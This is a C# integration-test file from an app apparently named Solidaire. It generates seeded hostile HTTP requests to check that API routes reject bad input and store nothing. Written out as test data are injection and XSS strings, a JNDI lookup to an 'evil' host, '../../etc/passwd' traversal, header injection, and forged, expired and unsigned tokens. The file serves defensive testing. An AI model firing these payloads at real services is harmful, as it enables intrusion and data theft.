using System.Globalization;
using System.Text;
using System.Text.Json;
using System.Text.Json.Nodes;
using Microsoft.IdentityModel.JsonWebTokens;
using Solidaire.Core.Tokens;

namespace Solidaire.Integration.Tests.Resilience;

/// <summary>A request as the generator wrote it, and what kind of attack it carries (for the report).</summary>
public sealed record HostileRequest(string Method, string Path, string? Authorization, byte[]? Body, string? ContentType, IReadOnlyList<(string Name, string Value)> Headers, string Kind);

/// <summary>
/// A seeded generator of hostile requests for one served route (its own, rather than FsCheck's: the
/// requests depend on a live world of tokens and ids, and a fixed seed replays a failure exactly).
/// Every request is invalid on purpose, so nothing may be stored: a hostile token, a hostile route
/// value, or a body that is not what the route takes (not JSON, too big, too deep, an unknown field,
/// a required field missing, a field of the wrong type or too long). A valid token of the route's
/// kind is only ever sent with a route value or a body that is invalid, never to sign-out or to a
/// client route that records its opening; a GET with a valid token and only a hostile query may be
/// answered 200 (reads store nothing, which the storage snapshot checks).
/// </summary>
public sealed class HostileRequests(ResilienceWorld world)
{
    private static readonly string[] HostileText =
    [
        "' or 1 eq 1", "' or '1' eq '1", "PartitionKey eq 'staff'", "PartitionKey ne '' or RowKey gt ''", "$filter=PartitionKey eq 'x'",
        "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "javascript:alert(1)", "'; DROP TABLE Dossiers;--", "${jndi:ldap://evil/x}", "{{7*7}}",
        "../../etc/passwd", "..\\..\\windows", "%00", "\0", "\r\nX-Injected: 1", "*", "", " ", "null", "undefined", "-1", "0", "99999999999999999999", "1e309", "NaN",
        "true", "{}", "[]", "💥🧯", "\u202Eevil", "e\u0301", "a|b", "a#b", "a?b", "a/b", "a\\b", "staff", "Dossiers", "\ud800",
        new string('a', 300), new string('é', 1500),
    ];

    private static readonly string[] ContentTypes =
    [
        "text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x", "application/xml", "application/json; charset=latin1",
        "application/json; charset=utf-16", "application/evil+json", "application/json;;;", "*/*", "application/json, text/html", "APPLICATION/JSON", "json",
        "application/json; charset=\"", "text/html; charset=utf-8",
    ];

    private static readonly string[] Queries =
    [
        "?status=' or 1 eq 1", "?status=new&status=closed", "?status=<script>alert(1)</script>", "?status=PartitionKey%20eq%20'staff'",
        "?cursor=<script>", "?cursor=Zm9vYmFy", "?cursor=%FF%FE", "?cursor=" + new string('A', 3000), "?$filter=PartitionKey%20eq%20'staff'", "?$top=100000",
        "?lang=<script>", "?%ZZ=1", "?a[b]=c&a[c]=d", "?=&=&", "?status=" + new string('x', 6000), "?status=new%00", "?cursor=' or 1 eq 1",
    ];

    private readonly string[] _hostileTokens = HostileTokens(world);

    /// <summary>A fresh sign-in link (for a staff route: another purpose) and the other purpose of each kind of route.</summary>
    private readonly Dictionary<RouteAuth, string[]> _otherPurpose = new()
    {
        [RouteAuth.StaffToken] = ["Bearer " + world.OtherClientContractLink, "Bearer " + world.Mint(TokenPurpose.StaffSignIn, world["coordinatorId"], TimeSpan.FromMinutes(10))],
        [RouteAuth.ClientLink] = ["Bearer " + world.Coordinator.AccessToken, "Bearer " + world.Mint(TokenPurpose.StaffSignIn, world["coordinatorId"], TimeSpan.FromMinutes(10))],
        // The sign-in link traded for an access token must never be a fresh one: it would work.
        [RouteAuth.None] = ["Bearer " + world.Coordinator.AccessToken, "Bearer " + world.OtherClientContractLink],
    };

    /// <summary><paramref name="count"/> hostile requests for <paramref name="route"/>, the same ones for the same seed.</summary>
    public IEnumerable<HostileRequest> For(ServedRoute route, int count, int seed)
    {
        var random = new Random(seed);
        for (var i = 0; i < count; i++)
            yield return One(route, random);
    }

    private HostileRequest One(ServedRoute route, Random random)
    {
        var kinds = new List<string>();
        var hasBody = route.Body is not null;
        // Sign-out ends a session and erasure confirms one: neither ever gets a genuine token here. Client
        // GETs record that the link was opened: only the signature, with a bad body, gets the genuine link.
        var validTokenSafe = route.Auth switch
        {
            RouteAuth.StaffToken => route.Template != "/api/staff/sign-out",
            RouteAuth.ClientLink => route.Method == "POST" && route.Template == "/api/client/contract/signature",
            _ => false,
        };
        var useValidToken = validTokenSafe && random.Next(100) < 45;
        string? authorization;
        if (useValidToken)
        {
            authorization = "Bearer " + (route.Auth == RouteAuth.ClientLink
                ? world.OtherClientContractLink
                : Pick(random, [world.Coordinator.AccessToken, world.AssignedCoach.AccessToken, world.OtherCoach.AccessToken, world.Referent.AccessToken]));
            kinds.Add("genuine token");
        }
        else
        {
            authorization = random.Next(10) == 0 ? null : random.Next(4) == 0 ? Pick(random, _otherPurpose[route.Auth]) : Pick(random, _hostileTokens);
            kinds.Add(authorization is null ? "no token" : "hostile token");
        }

        // With a genuine token, something else must be wrong: a route value when the route has no body
        // (or one time in three), else the body.
        var hostileRoute = route.Parameters.Count > 0 && (!useValidToken ? random.Next(2) == 0 : !hasBody || random.Next(3) == 0);
        var path = route.Template;
        foreach (var name in route.Parameters)
        {
            var value = hostileRoute ? HostileRouteValue(random) : Uri.EscapeDataString(RealValue(route.Template, name));
            path = path.Replace("{" + name + "}", value, StringComparison.Ordinal);
        }
        if (hostileRoute)
            kinds.Add("hostile route value");
        if (random.Next(100) < 35)
        {
            path += Pick(random, Queries);
            kinds.Add("hostile query");
        }

        var method = route.Method;
        if (random.Next(100) < 3)
        {
            method = Pick(random, ["PATCH", "OPTIONS", "TRACE", "PUT", "DELETE"]);
            kinds.Add("wrong method");
        }

        byte[]? body = null;
        string? contentType = null;
        if (hasBody || random.Next(100) < 20)
        {
            (body, contentType, var bodyKind) = Body(route, random);
            kinds.Add(bodyKind);
        }

        var headers = new List<(string, string)>();
        if (random.Next(100) < 30)
        {
            headers.Add(Pick<(string, string)>(random,
            [
                ("X-Forwarded-For", Pick(random, HostileText)), ("X-Forwarded-For", "999.999.1.1, ::ffff:1.2.3.4, " + new string('9', 500)),
                ("Idempotency-Key", Pick(random, HostileText)), ("Idempotency-Key", new string('k', 5000)),
                ("Accept", "application/xml"), ("Accept-Language", "' or 1 eq 1"), ("Origin", "https://evil.example"),
                ("Cookie", "session=" + new string('c', 4000)), ("X-HTTP-Method-Override", "DELETE"), ("Content-Encoding", "gzip"),
                ("Authorization", "Bearer second.header.value"), ("Forwarded", "for=\"[::1]\";proto=javascript"),
            ]));
            kinds.Add("hostile header");
        }
        return new HostileRequest(method, path, authorization, body, contentType, headers, string.Join(" + ", kinds));
    }

    /// <summary>The world's real value for a route parameter: the route then reaches its rules, and the token or body decides.</summary>
    private string RealValue(string template, string parameter) => (template, parameter) switch
    {
        (_, "sessionId") => world["session"],
        (_, "coachId") => world["victim"],
        _ when template.StartsWith("/api/staff/intakes/", StringComparison.Ordinal) => world["waitingIntake"],
        _ when template.StartsWith("/api/staff/engagements/", StringComparison.Ordinal) => world["engagement"],
        _ when template.StartsWith("/api/staff/complaints/", StringComparison.Ordinal) => world["complaint"],
        _ => throw new InvalidOperationException($"No value for {{{parameter}}} of {template}: say which of the world's ids it takes."),
    };

    private string HostileRouteValue(Random random) => random.Next(6) switch
    {
        // Raw: what the URL parser and the router make of it is part of the attack.
        0 => Pick(random, ["%ZZ", "%", "..", "%2e%2e", "%252F", "a%00b", "%C0%AF", "%FF%FE", "x;y=z", "~", "-"]),
        // Near misses of real ids: one character more, another case, another kind's id.
        1 => Uri.EscapeDataString(Pick(random, [world["engagement"] + "x", world["engagement"].ToUpperInvariant(), world["intake"] + "0", world["complaint"][..^1], world["otherEngagement"].Replace('a', 'b')])),
        _ => Uri.EscapeDataString(Pick(random, HostileText) is { Length: > 0 } t ? t : "%20"),
    };

    private (byte[] Body, string? ContentType, string Kind) Body(ServedRoute route, Random random)
    {
        var json = "application/json";
        switch (random.Next(20))
        {
            case 0:
                // Some of these types are JSON after all (application/evil+json, APPLICATION/JSON): the body is invalid too.
                return (Encoding.UTF8.GetBytes(InvalidBody(route, random).Body.ToJsonString()), Pick(random, ContentTypes), "wrong content type");
            case 1:
                return ([], random.Next(2) == 0 ? json : null, "empty body");
            case 2:
                return (Pick<byte[]>(random,
                [
                    [0x7B, 0x22, 0x61, 0x22, 0x3A, 0x22, 0xC3, 0x28, 0x22, 0x7D],
                    [0xFF, 0xFE, 0x7B, 0x00, 0x7D, 0x00],
                    [0x7B, 0x22, 0xED, 0xA0, 0x80, 0x22, 0x3A, 0x31, 0x7D],
                    [0xEF, 0xBB, 0xBF, 0x7B, 0x22, 0x65, 0x6D, 0x61, 0x69, 0x6C, 0x22, 0x3A, 0xF8, 0x88, 0x80, 0x80, 0x80, 0x7D],
                    [0xC0, 0xAF, 0xC0, 0xAF],
                ]), json, "invalid UTF-8");
            case 3:
                return (Encoding.UTF8.GetBytes(Pick(random,
                [
                    " ", "null", "[]", "[{}]", "123", "\"text\"", "{", "{\"a\":", "{'a':1}", "{\"a\":1,}", "{/*c*/}", "{\"a\":1}{\"b\":2}",
                    "{\"a\":NaN}", "{\"a\":1e99999}", "{\"a\":\"\\ud800\"}", "{\"a\":\"\\u0000\"}", "{\"a\":1,\"a\":2}", "\0",
                ])), json, "not a JSON object");
            case 4:
                var depth = Pick(random, [17, 64, 5000]);
                return (Encoding.UTF8.GetBytes("{\"a\":" + string.Concat(Enumerable.Repeat("[", depth)) + string.Concat(Enumerable.Repeat("]", depth)) + "}"), json, "too deep");
            case 5:
                // Past the app's 64 KiB limit; now and then past the server's 4 MiB.
                var size = random.Next(25) == 0 ? 5 * 1024 * 1024 : random.Next(65 * 1024, 300 * 1024);
                var big = SchemaBody(route, random);
                big["padding"] = new string('x', size);
                return (Encoding.UTF8.GetBytes(big.ToJsonString()), json, "oversized");
            default:
                var (obj, kind) = InvalidBody(route, random);
                return (Encoding.UTF8.GetBytes(obj.ToJsonString()), json, kind);
        }
    }

    /// <summary>A body shaped like the route's schema with at least one sure fault, and hostile text anywhere else.</summary>
    private (JsonObject Body, string Kind) InvalidBody(ServedRoute route, Random random)
    {
        var body = SchemaBody(route, random);
        var properties = Properties(route.Body);
        var required = route.Body is { } s && s.TryGetProperty("required", out var r) ? r.EnumerateArray().Select(x => x.GetString()!).ToArray() : [];
        string kind;
        string? faulted = null;
        switch (random.Next(5))
        {
            case 4 when properties.Count > 0:
                // A value of the right JSON type at the edge of what .NET can hold (a decimal, a long, a date
                // near year 1 or 9999 with an offset), with an unknown field beside it as the sure fault.
                var (edgeName, edgeSchema) = Pick(random, properties.ToArray());
                body[edgeName] = Edge(edgeSchema, random);
                body["unknownBesideAnEdge"] = 1;
                kind = "edge value";
                break;
            case 0 when required.Length > 0:
                body.Remove(Pick(random, required));
                kind = "required field missing";
                break;
            case 1 when properties.Count > 0:
                var (name, schema) = Pick(random, properties.ToArray());
                body[name] = WrongType(schema, random);
                faulted = name;
                kind = "field of the wrong type";
                break;
            case 2 when properties.Any(p => p.Value.TryGetProperty("maxLength", out _)):
                var (longName, longSchema) = Pick(random, properties.Where(p => p.Value.TryGetProperty("maxLength", out _)).ToArray());
                body[longName] = new string('Z', longSchema.GetProperty("maxLength").GetInt32() + 1 + random.Next(5000));
                faulted = longName;
                kind = "field too long";
                break;
            default:
                body[Pick(random, ["__proto__", "constructor", "PartitionKey", "RowKey", "ETag", "odata.etag", "isAdmin", "roles", "amountEur", "<script>", "' or 1 eq 1", ""])] =
                    Pick<JsonNode?>(random, [true, "x", JsonNode.Parse("{\"admin\":true}"), null]);
                kind = "unknown field";
                break;
        }
        // Hostile text in other fields: the sure fault above still refuses the whole body.
        foreach (var (name, _) in properties.Where(_ => random.Next(3) == 0))
        {
            if (body.ContainsKey(name) && name != faulted)
                body[name] = Pick(random, HostileText);
        }
        if (route.Template == "/api/staff/access-tokens" && random.Next(2) == 0)
        {
            body.Remove("token");
            body["token"] = Pick(random, [.. _hostileTokens, .. _otherPurpose[RouteAuth.None]]).Replace("Bearer ", "", StringComparison.Ordinal);
        }
        return (body, kind);
    }

    /// <summary>Every field of the schema with a plausible value.</summary>
    private static JsonObject SchemaBody(ServedRoute route, Random random)
    {
        var body = new JsonObject();
        foreach (var (name, schema) in Properties(route.Body))
            body[name] = Plausible(schema, random);
        return body;
    }

    private static List<KeyValuePair<string, JsonElement>> Properties(JsonElement? schema) =>
        schema is { } s && s.TryGetProperty("properties", out var p) ? p.EnumerateObject().Select(x => KeyValuePair.Create(x.Name, x.Value)).ToList() : [];

    private static JsonNode? Plausible(JsonElement schema, Random random)
    {
        if (schema.TryGetProperty("enum", out var values))
            return JsonNode.Parse(Pick(random, values.EnumerateArray().ToArray()).GetRawText());
        if (schema.TryGetProperty("oneOf", out var oneOf))
        {
            var choice = Pick(random, oneOf.EnumerateArray().ToArray());
            var o = new JsonObject();
            foreach (var (name, s) in Properties(choice))
                o[name] = Plausible(s, random);
            return o;
        }
        return TypeOf(schema) switch
        {
            "integer" => schema.TryGetProperty("minimum", out var min) ? min.GetInt64() : 1,
            "number" => 12.5,
            "boolean" => true,
            "array" => new JsonArray(schema.TryGetProperty("items", out var items) ? Plausible(items, random) : "x"),
            "object" => SchemaObject(schema, random),
            _ when schema.TryGetProperty("format", out var f) && f.GetString() == "email" => "hostile-" + random.Next(1000).ToString(CultureInfo.InvariantCulture) + "@example.org",
            _ => "Un texte ordinaire, assez long pour la plupart des champs."[..Math.Min(56, schema.TryGetProperty("maxLength", out var max) ? max.GetInt32() : 56)],
        };
    }

    private static JsonObject SchemaObject(JsonElement schema, Random random)
    {
        var o = new JsonObject();
        foreach (var (name, s) in Properties(schema))
            o[name] = Plausible(s, random);
        return o;
    }

    private static JsonNode? Edge(JsonElement schema, Random random) => TypeOf(schema) switch
    {
        "integer" or "number" => JsonNode.Parse(Pick(random, ["1e400", "-1e400", "79228162514264337593543950336", "-9223372036854775809", "9223372036854775808", "-0", "1e-400", "0.0000000000000000000000000001", "4.000000000000001", "80.005"])),
        "array" => new JsonArray([.. Enumerable.Range(0, random.Next(2, 5000)).Select(i => (JsonNode?)("fr" + i.ToString(CultureInfo.InvariantCulture)))]),
        _ => Pick(random, ["0001-01-01T00:00:00+14:00", "9999-12-31T23:59:59-14:00", "0001-01-01T00:00:00Z", "9999-12-31T23:59:59.9999999Z", "2030-02-30T10:00+01:00",
            "2030-01-02T10:00+99:00", "2030-01-02T24:00:00+01:00", "+275760-09-13T00:00:00Z", "2030-01-02", "10:00", "P1D", "2030-01-02T10:00+01:00[Europe/Paris]"]),
    };

    private static JsonNode? WrongType(JsonElement schema, Random random) => TypeOf(schema) switch
    {
        "string" => Pick<JsonNode?>(random, [12345, true, new JsonArray("a"), new JsonObject { ["a"] = "b" }, 1e300]),
        "integer" or "number" => Pick<JsonNode?>(random, ["12", 1.5e308, true, new JsonArray(1), "' or 1 eq 1", 12.345678, long.MaxValue]),
        "boolean" => Pick<JsonNode?>(random, ["true", 1, new JsonObject(), "yes"]),
        "array" => Pick<JsonNode?>(random, ["fr", new JsonObject { ["0"] = "fr" }, 1, new JsonArray(new JsonArray("fr"))]),
        _ => Pick<JsonNode?>(random, [new JsonArray(), "financial", 0, false]),
    };

    private static string? TypeOf(JsonElement schema) =>
        schema.TryGetProperty("type", out var t) ? t.ValueKind == JsonValueKind.Array ? t.EnumerateArray().First(x => x.GetString() != "null").GetString() : t.GetString() : null;

    /// <summary>Authorization headers no caller should get past: forged, expired, replayed, of another purpose, or not a token at all.</summary>
    private static string[] HostileTokens(ResilienceWorld world)
    {
        var coordinator = world["coordinatorId"];
        var contractSubject = new JsonWebToken(world.OtherClientContractLink).Subject;
        var access = world.Coordinator.AccessToken;
        return
        [
            "", "Bearer", "Bearer ", "bearer " + access[..^2], "Basic YWRtaW46YWRtaW4=", "Bearer ' or 1 eq 1", "Bearer <script>alert(1)</script>",
            "Bearer " + new string('A', 5000), "Bearer a.b.c", "Bearer eyJhbGciOiJub25lIn0.eyJzdWIiOiJ4In0.",
            // A genuine token cut or altered: the signature no longer matches.
            "Bearer " + access[..^4] + "AAAA", "Bearer " + access.Split('.')[0] + "." + Convert.ToBase64String(Encoding.UTF8.GetBytes("{\"sub\":\"" + coordinator + "\",\"purpose\":\"staff-access\"}")).TrimEnd('=') + "." + access.Split('.')[2],
            // Forged: the right shape and key id, another key.
            "Bearer " + world.Forge(TokenPurpose.StaffAccess, coordinator), "Bearer " + world.Forge(TokenPurpose.ContractLink, contractSubject),
            // Expired.
            "Bearer " + world.Mint(TokenPurpose.StaffAccess, coordinator, TimeSpan.FromMinutes(-1)), "Bearer " + world.Mint(TokenPurpose.ContractLink, contractSubject, TimeSpan.FromMinutes(-1)),
            "Bearer " + world.Mint(TokenPurpose.StaffSignIn, coordinator, TimeSpan.FromMinutes(-1)),
            // Replayed: a sign-in link already traded.
            "Bearer " + world.UsedSignInLink,
            // Meant for another purpose on every route (more, per kind of route, in _otherPurpose).
            "Bearer " + world.Mint(TokenPurpose.FeedbackLink, contractSubject, TimeSpan.FromMinutes(-1)), "Bearer " + world.Mint(TokenPurpose.ErasureLink, contractSubject, TimeSpan.FromMinutes(-1)),
        ];
    }

    private static T Pick<T>(Random random, IReadOnlyList<T> items) => items[random.Next(items.Count)];
}
